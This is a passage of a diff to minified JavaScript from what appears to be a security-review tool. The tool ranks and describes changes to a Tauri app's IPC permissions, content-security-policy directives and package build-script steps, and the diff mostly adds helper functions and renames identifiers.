-principal.origin);return import_shared_aceps.SEVERITIES.indexOf((0,import_shared_ce.callSeverity)({command:command2,remote,crosses,reach:reach2,inOwnWindow,guessed:guessed2}))}
+const entry=namingPages(cause),[pattern]=patternsFor(principal,entry);return{kind:pattern===void 0||entry.windows.includes(pattern)?"window":"webview",label:pattern?.
+text??principal.window,from:originOf3(principal,cause)}}function namingPages({entry,calledBy:calledBy2=entry}){return calledBy2}function originOf3({origin},cause){
+if(origin==="local")return{kind:isForOwnPages(cause)?"app-not-site":"app"};const{context:context2}=namingPages(cause);return{kind:"site",url:context2.kind==="re\
+mote"?context2.url.text:origin}}function isForOwnPages({reason}){return reason.rule==="ipc/app-commands-open"?reason.to==="own-pages":reason.rule==="ipc/window-\
+added"&&reason.note==="own-pages"}var Drafts=class{#drafts=new Map;#lines=new Map;add(cause,call2){const identity=identityOf5(cause),line=this.#lines.get(identity)??
+lineOf6(cause);this.#lines.set(identity,line);const draft=this.#drafts.get(line)??emptyDraft(cause,call2);this.#drafts.set(line,draft),draft.identities.add(identity),
+draft.commands.add(call2.command),draft.permissions.add(cause.entry.permission);const page=pageName(call2.principal,cause);draft.pages.set(keyOf8(page),page),isNoted(
+cause.reason)&&(draft.noted??=cause.reason),draft.platforms|=(0,import_shared_aceps.platformSet)(call2.platform);const worth=worthOf(call2,cause);(worth.rank-draft.
+bestWorth.rank||worth.weight-draft.bestWorth.weight)>0&&(draft.cause=cause,draft.best=call2,draft.bestWorth=worth,draft.bestOn=import_shared_aceps.NO_PLATFORM),
+isSameCall(call2,draft.best)&&(draft.bestOn|=(0,import_shared_aceps.platformSet)(call2.platform))}changes(direction,appIsNew){return joined8([...this.#drafts.values()].
+map(draft=>({change:changeOf3(draft,direction,appIsNew),rank:draft.bestWorth.rank})))}};function emptyDraft(cause,best){return{cause,noted:void 0,identities:new Set,
+commands:new Set,permissions:new Set,pages:new Map,platforms:import_shared_aceps.NO_PLATFORM,best,bestOn:import_shared_aceps.NO_PLATFORM,bestWorth:worthOf(best,
+cause)}}function keyOf8({kind,label,from}){return`${kind}\0${label}\0${from.kind}\0${from.kind==="site"?from.url:""}`}function lineOf6({reason,at:{path,line,column},
+detail}){const forWhom=reason.rule==="ipc/app-commands-open"?detail:"";return JSON.stringify([reason.rule,path,line,column,forWhom,denialIn(reason)])}function identityOf5({
+reason,entry,detail}){const what=reason.rule.slice(4),setting45=settingIn3(reason);if(setting45!==null)return JSON.stringify([what,setting45]);const denial=denialIn(
+reason);return denial.length>0?JSON.stringify([what,...denial,detail]):JSON.stringify([what,entry.capability,isOfWhole(reason)?"":entry.permission,detail])}function settingIn3(reason){
+return reason.rule==="ipc/scope-widened"&&reason.note?.kind==="setting"?reason.note.setting:null}function denialIn(reason){if(reason.rule!=="ipc/deny-removed"||
+reason.denial===null)return[];const{capability,permission:permission2,of:of2}=reason.denial;return[capability,permission2,of2]}function isOfWhole(reason){switch(reason.
+rule){case"ipc/window-added":case"ipc/remote-origin-granted":case"ipc/platform-added":return!0;case"ipc/command-granted":return reason.note==="capability-enable\
+d";default:return!1}}function isNoted(reason){return"note"in reason&&reason.note!==null}function worthOf(call2,cause){return{rank:rank2(call2,isGuessed(cause)),
+weight:weight(call2)}}function rank2({command:command2,principal,reach:reach2,crosses,inOwnWindow},guessed2){const remote=(0,import_shared_ce.isForeign)(principal.
+origin);return import_shared_aceps.SEVERITIES.indexOf((0,import_shared_ce.callSeverity)({command:command2,remote,crosses,reach:reach2,inOwnWindow,guessed:guessed2}))}
 function isGuessed({entry,uncertain}){return entry.inferred||uncertain===!0}function weight({command:command2,reach:reach2,principal}){const shown4={nothing:.7,
 bounded:.8,unscoped:1,sensitive:1.2}[reach2];return((0,import_shared_aces.powerOf)(command2)+1)*shown4+(principal.origin==="local"?0:.01)}function changeOf3(draft,direction,appIsNew){
 const{cause,noted,best,platforms}=draft,[pages,identities]=[[...draft.pages.values()],[...draft.identities].sort()],commands2=[...draft.commands].sort(import_shared_aces.byPower).
@@ -11729,10 +11757,10 @@ ns";return each.ecosystem==="cargo"||!before3.named(each).packages.some(ranScrip
 function stepsTaken(inventory){const taken4=new Map;for(const each of inventory.packages)for(const step of import_shared_ce.BUILD_STEPS){const key3=JSON.stringify(
 [each.ecosystem,each.name,step,each.outcome]);each.steps?.includes(step)===!0&&each.outcome!=="never"&&!taken4.has(key3)&&taken4.set(key3,{step,package:each})}return[
 ...taken4.values()]}function matches2(old,{step,package:{outcome:outcome2}}){return old.steps?.includes(step)===!0&&(old.outcome==="runs"||old.outcome===outcome2)}
-var MOST_EDITS=500,MOST_LINES8=200,MOST_CHARACTERS=16e3,LONGEST_LINE8=200;function scriptDifference(before3,after2){const[old,now]=[before3.text,after2?.text??null];
+var MOST_EDITS=500,MOST_LINES7=200,MOST_CHARACTERS=16e3,LONGEST_LINE8=200;function scriptDifference(before3,after2){const[old,now]=[before3.text,after2?.text??null];
 if(old===null||now===null||old===now)return null;const patch=(0,import_shared_ce.structuredPatch)("","",old,now,"","",{context:3,maxEditLength:MOST_EDITS});if(patch===
 void 0)return null;const all=patch.hunks.flatMap(({oldStart,oldLines,newStart,newLines,lines:lines3})=>[`@@ -${oldStart},${oldLines} +${newStart},${newLines} @@`,
-...lines3]),lines2=all.slice(0,MOST_LINES8).map(line=>line.slice(0,LONGEST_LINE8));let room=MOST_CHARACTERS;const kept=lines2.filter(line=>(room-=line.length,room>=
+...lines3]),lines2=all.slice(0,MOST_LINES7).map(line=>line.slice(0,LONGEST_LINE8));let room=MOST_CHARACTERS;const kept=lines2.filter(line=>(room-=line.length,room>=
 0));return{lines:kept,left:all.length-kept.length}}var MOST_DIFFERENCES=10;function codeNews(before3,after2,wayTo2){const ran=[...newlyRunning(before3,after2,wayTo2),
 ...changedCode(before3,after2,wayTo2)];return[...Map.groupBy(ran,({package:each,running,rule,wasBlocked})=>JSON.stringify([rule,running.step,each.ecosystem,each.
 at.path,each.outcome,wasBlocked])).values()].flatMap(group2=>{const sorted2=group2.toSorted((one3,other)=>gravity(other.running)-gravity(one3.running)),[first]=sorted2;
@@ -12353,8 +12381,8 @@ he pages come from a server, and Tauri sends no header with them"};function allo
 absence];case"unrestricted":return"allowed: no directive restricts it";case"directive":return`allowed by ${directiveInCode(stance)}`}}function refusedInWords(stance){
 switch(stance.kind){case"no-app":return"the app is new";case"not-done":return"not done";case"directive":return`refused by ${directiveInCode(stance)}`}}function directiveInCode({
 words:words4,isCompleted}){return`${(0,import_shared_acegpst.code)(words4.join(" "),240)}${isCompleted?" with what Tauri adds to it":""}`}function ipcEffect(change2){
-const{action,refused,allowed:allowed2}=callsIn3(change2),before3=change2.appIsNew?"No page could call anything.":refused;return{subject:(0,import_shared_ce.pagesInWords)(
-change2.pages),action,base:change2.direction==="narrowed"?allowed2:before3,head:change2.direction==="narrowed"?refused:allowed2}}function callsIn3(change2){const commands2=change2.
+const{action,refused,allowed:allowed2}=callsIn4(change2),before3=change2.appIsNew?"No page could call anything.":refused;return{subject:(0,import_shared_ce.pagesInWords)(
+change2.pages),action,base:change2.direction==="narrowed"?allowed2:before3,head:change2.direction==="narrowed"?refused:allowed2}}function callsIn4(change2){const commands2=change2.
 commands.filter(command2=>command2!==import_shared_aces.ANY_APP_COMMAND),isEvery=(0,import_shared_ce.shownCommand)(change2)===import_shared_aces.ANY_APP_COMMAND,
 calls=(0,import_shared_aces.commandsInWords)(isEvery?[]:commands2),example=change2.example===null?void 0:(0,import_shared_acegpst.code)(change2.example);if(change2.
 rule==="ipc/scope-widened"&&change2.note?.kind==="entry-gone")return{action:`use ${calls} with anything`,refused:`${calls} had a scope.`,allowed:`No entry is le\
